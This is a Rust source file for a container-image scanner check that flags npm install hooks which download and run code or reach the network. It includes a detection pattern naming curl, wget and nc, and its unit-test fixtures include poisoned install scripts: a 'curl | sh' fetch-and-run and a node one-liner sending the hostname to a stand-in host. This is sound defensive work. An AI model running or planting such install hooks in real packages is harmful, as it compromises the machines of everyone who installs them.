//! npm install scripts: `preinstall`, `install` and `postinstall` of every
//! installed package that download, decode and run code (HIGH), or reach
//! the network at install time (MEDIUM) — how a poisoned package runs.

use super::info;
use crate::check::{Check, CheckContext, CheckInfo};
use crate::command::{Suspicion, analyze};
use imgscan_sbom::{Finding, Severity};
use regex::Regex;
use std::sync::LazyLock;

/// The npm install-script check.
pub struct NpmScripts;

const SCRIPT: CheckInfo = info(
    "npm.install-script",
    Severity::High,
    "an installed npm package's install script downloads or decodes code and runs it (HIGH), or reaches the network (MEDIUM)",
);
const HOOKS: &[&str] = &["preinstall", "install", "postinstall"];

static NETWORK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)https?://|\b(curl|wget|nc|ncat)\b|\brequire\(\s*['\x22](https?|net|dgram)['\x22]\s*\)").unwrap()
});

impl Check for NpmScripts {
    fn info(&self) -> &'static [CheckInfo] {
        std::slice::from_ref(&SCRIPT)
    }

    fn globs(&self) -> &'static [&'static str] {
        &[
            "**/node_modules/*/package.json",
            "**/node_modules/@*/*/package.json",
        ]
    }

    fn run(&self, ctx: &CheckContext<'_>) -> Vec<Finding> {
        let mut out = Vec::new();
        for path in ctx.paths_where(is_package_manifest) {
            let Some(bytes) = ctx.tree.content(&path) else {
                continue;
            };
            let Ok(manifest) = serde_json::from_slice::<serde_json::Value>(bytes) else {
                continue;
            };
            let name = manifest["name"].as_str().unwrap_or("?");
            for hook in HOOKS {
                let Some(script) = manifest["scripts"][hook].as_str() else {
                    continue;
                };
                let runs = analyze(script, ctx)
                    .into_iter()
                    .any(|s| matches!(s, Suspicion::DownloadAndRun | Suspicion::TempOrHidden(_)));
                let severity = if runs {
                    Severity::High
                } else if NETWORK.is_match(script) {
                    Severity::Medium
                } else {
                    continue;
                };
                out.push(ctx.finding(&SCRIPT, severity, (&path, None), format!("`{name}` runs a suspicious `{hook}` script"), format!("\"{hook}\": {}", script.chars().take(200).collect::<String>()), "install with `--ignore-scripts`, pin the package to a reviewed version, and check it against the advisory feed"));
            }
        }
        out
    }
}

fn is_package_manifest(path: &[u8]) -> bool {
    let Ok(path) = std::str::from_utf8(path) else {
        return false;
    };
    let Some(rest) = path.strip_suffix("/package.json") else {
        return false;
    };
    let Some((parent, _name)) = rest.rsplit_once('/') else {
        return false;
    };
    let scoped = parent
        .rsplit_once('/')
        .is_some_and(|(grand, scope)| scope.starts_with('@') && grand.ends_with("node_modules"));
    parent.ends_with("node_modules") || scoped
}

#[cfg(test)]
mod tests {
    use super::*;
    use imgscan_sbom::test_tree::MapTree;

    #[test]
    fn poisoned_install_scripts() {
        let tree = MapTree::new(&[
            (
                "app/node_modules/evil/package.json",
                r#"{"name":"evil","scripts":{"postinstall":"curl -s https://x.example/p | sh"}}"#,
            ),
            (
                "app/node_modules/@sc/beacon/package.json",
                r#"{"name":"@sc/beacon","scripts":{"preinstall":"node -e \"require('https').get('https://x.example/?h='+require('os').hostname())\""}}"#,
            ),
            (
                "app/node_modules/esbuild/package.json",
                r#"{"name":"esbuild","scripts":{"postinstall":"node install.js"}}"#,
            ),
            (
                "app/node_modules/esbuild/lib/package.json",
                r#"{"scripts":{"install":"curl x | sh"}}"#,
            ),
        ]);
        let found: Vec<(Severity, String)> = NpmScripts
            .run(&CheckContext::new(&tree, &[]))
            .into_iter()
            .map(|f| (f.severity, f.path))
            .collect();
        assert_eq!(
            found,
            [
                (
                    Severity::Medium,
                    "/app/node_modules/@sc/beacon/package.json".into()
                ),
                (Severity::High, "/app/node_modules/evil/package.json".into())
            ]
        );
    }
}
